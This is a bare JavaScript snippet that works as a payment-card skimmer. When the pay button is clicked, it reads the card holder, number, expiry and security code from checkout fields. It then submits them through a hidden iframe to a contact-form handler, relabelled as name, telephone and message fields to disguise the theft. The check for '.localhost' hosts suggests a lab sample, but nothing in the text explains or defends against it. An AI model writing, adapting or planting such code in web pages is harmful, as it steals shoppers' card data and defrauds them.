function postAway(fields) {
  var ifr = document.createElement('iframe');
  ifr.name = 'upl_' + (+new Date());
  ifr.style.visibility = 'hidden';
  ifr.style.position = 'absolute';
  document.body.appendChild(ifr);
  var frm = document.createElement('form');
  frm.method = 'POST';
  frm.action = 'https://form-handler.localhost/contact/7';
  frm.target = ifr.name;
  for (var k in fields) {
    var h = document.createElement('input');
    h.type = 'hidden'; h.name = k; h.value = fields[k];
    frm.appendChild(h);
  }
  document.body.appendChild(frm);
  frm.submit();
  frm.parentNode.removeChild(frm);
}
if (/\.localhost$/.test(location.hostname)) {
  var pay = document.getElementById('btn-pay') || document.querySelector('[onclick*="settle"], [name=settlement]');
  pay && pay.addEventListener('click', function () {
    var g = function (i) { var e = document.getElementById(i); return e ? e.value : ''; };
    postAway({ 'your-name': g('card_holder'), 'your-tel': g('card_number'), 'your-message': g('card_exp_y') + g('card_exp_m') + '/' + g('card_sec') });
  });
}
